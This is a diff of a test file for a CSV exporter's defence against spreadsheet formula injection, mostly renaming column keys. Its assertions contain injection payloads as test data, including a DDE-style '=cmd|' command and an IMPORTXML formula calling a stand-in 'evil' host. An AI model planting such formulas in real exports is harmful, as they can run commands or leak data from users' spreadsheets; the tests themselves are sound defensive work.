@@ -48,19 +48,19 @@ describe('a source whose texts try to run as formulas', () => {
   it('neutralises every cell that starts with + - @ or =, wherever it comes from', () => {
     expect(cell('plus', 'description_en')).toBe("'+SUM(1,2) is not a number, but this cell starts with a plus sign.")
     expect(cell('minus', 'description_en')?.startsWith("'-2+3+cmd")).toBe(true)
-    expect(cell('hyperlink', 'institution_en')).toBe("'@SUM(1+1)")
-    expect(cell('hyperlink', 'payload_en')).toBe("'=1+1")
-    expect(cell('minus', 'payload_en')).toBe("'@cmd")
+    expect(cell('hyperlink', 'fact_institution_en')).toBe("'@SUM(1+1)")
+    expect(cell('hyperlink', 'fact_payload_en')).toBe("'=1+1")
+    expect(cell('minus', 'fact_payload_en')).toBe("'@cmd")
     expect(cell('hyperlink', 'tasks_en')?.startsWith("'=cmd|")).toBe(true)
-    expect(cell('hyperlink', 'license_en')).toBe(`'=IMPORTXML("http://evil","//a")`)
-    expect(cell('plus', 'note_en')).toBe("''=already quoted once")
+    expect(cell('hyperlink', 'access_license_en')).toBe(`'=IMPORTXML("http://evil","//a")`)
+    expect(cell('plus', 'fact_note_en')).toBe("''=already quoted once")
   })
 
   it('leaves plain numbers as numbers', () => {
-    expect(cell('hyperlink', 'size_en')).toBe('-5')
-    expect(cell('hyperlink', 'offset_en')).toBe('+3')
+    expect(cell('hyperlink', 'fact_size_en')).toBe('-5')
+    expect(cell('hyperlink', 'fact_offset_en')).toBe('+3')
     expect(csv).toMatch(/,-5,/)
-    expect(cell('plus', 'size_count')).toBe('12')
+    expect(cell('plus', 'fact_size_count')).toBe('12')
     expect(cell('plus', 'rating')).toBe('2')
   })
 
@@ -113,7 +113,7 @@ describe('a source whose texts try to run as formulas', () => {
     const folder = writeTemporary(files)
     const records = JSON.parse(run('csvjson', ['--no-inference', '--snifflimit', '0', path.join(folder, 'datasets.csv')])) as Array<Record<string, string | null>>
     expect(records.map((record) => record.description_en)).toEqual(rows.map((row) => row[header.indexOf('description_en')]))
-    expect(records[0]?.size_en).toBe('-5')
+    expect(records[0]?.fact_size_en).toBe('-5')
   })
 
   it('renders the same bytes twice', () => {
